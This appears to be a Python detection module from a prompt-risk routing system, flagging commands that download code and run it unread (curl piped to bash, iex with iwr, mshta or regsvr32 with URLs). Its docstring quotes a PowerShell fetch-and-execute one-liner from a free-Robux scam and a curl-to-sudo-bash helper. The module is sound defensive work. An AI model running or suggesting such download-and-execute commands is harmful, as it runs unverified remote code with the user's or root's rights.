"""A download run as code without being read (the ``remote-code-floor`` rule of v34).

Why a floor of its own: every release to v33 missed a 13-year-old about to paste
``powershell -c "iwr http://rbx-gen.click/get.ps1 | iex"`` for free Robux (round 45), and the
routing corpus holds three more such prompts, all high (a ``curl -s "$1" | sudo bash``
deploy helper among them). The construct is named in security practice, not in any split:
CWE-494, download of code without an integrity check. A script fetched and handed straight
to an interpreter runs whatever the server sends that time, with the user's rights (or
root's, under ``sudo``); nobody reads it, no checksum or signature is compared. The code
hazard families (``loomc.risk.codehazards``) are classifier columns of every release since v7;
adding a family there would change what every shipped release decides, so this one is a rule
only a release that names it uses.

* ``remote-code:piped`` — on one line, a download (``curl``, ``wget``, PowerShell's ``iwr`` /
  ``irm`` / ``Invoke-WebRequest`` / ``Invoke-RestMethod``) piped, through any other commands,
  into a shell or script interpreter that reads its program from the pipe (``sh``, ``bash``,
  ``python``, ``iex`` ...). An interpreter given its own program (``python -m json.tool``,
  ``python -c '...'``, ``sh -c '...'``, ``node -e``) only reads the download as data: not this.
* ``remote-code:substituted`` — a download substituted into an interpreter's program:
  ``bash <(curl ...)``, ``sh -c "$(wget -O- ...)"``, ``eval "$(curl ...)"``,
  ``iex (New-Object Net.WebClient).DownloadString(...)``, ``iex (iwr ...)``.
* ``remote-code:lolbin`` — a Windows binary told to fetch and run a script from a URL
  (``mshta http...``, ``regsvr32 /i:http...``): the same construct under another name.

Official installers are written this way too (``curl ... | sh`` for rustup or nvm), and the
floor escalates them: running an unread download as root is what a reviewer is for, and a
harmless one costs one verification call. Over every row of ``evals/routing`` to round 45 it
fires on the four high prompts above and on no other row (``tests/risk/test_remote_code.py``).
"""

from __future__ import annotations

import re

from loomc.risk.memo import per_prompt

_F = re.IGNORECASE

# What a prompt must contain for any family to match (a cheap test before any regex runs).
_LITERALS = ("curl", "wget", "iwr", "irm", "invoke-", "downloadstring", "mshta", "regsvr32")

_DOWNLOAD = re.compile(
    r"(?<![\w.-])(?:curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod)(?![\w-])", _F
)
# An interpreter that reads its program from standard input, after a pipe (and maybe sudo).
_PIPED_INTERPRETER = re.compile(
    r"\|\s*(?:sudo\s+(?:-[\w-]+\s+)*)?(?:env\s+)?"
    r"(?:sh|bash|zsh|ksh|dash|ash|fish|python[\d.]*|perl|ruby|node|php|iex|invoke-expression"
    r"|powershell(?:\.exe)?|pwsh)(?![\w.-])"
    # given its own program, it reads the download as data
    r"(?!\s+(?:-[cemnp]|-ne|-pe|-command|--command|--eval)(?![\w-]))",
    _F,
)
_SUBSTITUTED = re.compile(
    r"(?:\b(?:sh|bash|zsh|ksh|source|python[\d.]*)|(?<![\w.])\.)\s+<\(\s*(?:curl|wget)\b"
    r"|\b(?:sh|bash|zsh|ksh)\s+-c\s+[\"']?\$\(\s*(?:curl|wget)\b"
    r"|\beval\s+[\"']?\$\(\s*(?:curl|wget)\b"
    r"|\b(?:iex|invoke-expression)\s*\(*\s*(?:\[[\w.]+\]\s*::\s*\w+\()?\s*\(*\s*"
    r"(?:new-object\s+(?:system\.)?net\.webclient|iwr|irm|invoke-webrequest|invoke-restmethod)\b"
    r"|\.downloadstring\([^)\n]{0,300}\)[^\n]{0,40}\|\s*(?:iex|invoke-expression)\b",
    _F,
)
_LOLBIN = re.compile(
    r"\bmshta(?:\.exe)?\s+[\"']?(?:https?://|vbscript:|javascript:)"
    r"|\bregsvr32(?:\.exe)?\b[^\n]{0,120}/i:\s*[\"']?https?://",
    _F,
)

REMOTE_CODE_NAMES: tuple[str, ...] = (
    "remote-code:piped",
    "remote-code:substituted",
    "remote-code:lolbin",
)


def _piped(prompt: str) -> bool:
    """A line where a download is followed, later on the same line, by a pipe into an
    interpreter that reads its program from the pipe. Line by line and from the first download
    only, so a long line costs one scan, not one per occurrence of a download's name."""
    for line in prompt.splitlines():
        if "|" not in line:
            continue
        download = _DOWNLOAD.search(line)
        if download is not None and _PIPED_INTERPRETER.search(line, download.end()):
            return True
    return False


@per_prompt
def remote_code_floor(prompt: str) -> tuple[str, ...]:
    """The ``remote-code:*`` families ``prompt`` holds (see the module doc), in
    ``REMOTE_CODE_NAMES`` order; ``()`` for most prompts, which name no download at all."""
    folded = prompt.casefold()
    if not any(literal in folded for literal in _LITERALS):
        return ()
    found = (
        _piped(prompt),
        _SUBSTITUTED.search(prompt) is not None,
        _LOLBIN.search(prompt) is not None,
    )
    return tuple(name for name, hit in zip(REMOTE_CODE_NAMES, found, strict=True) if hit)
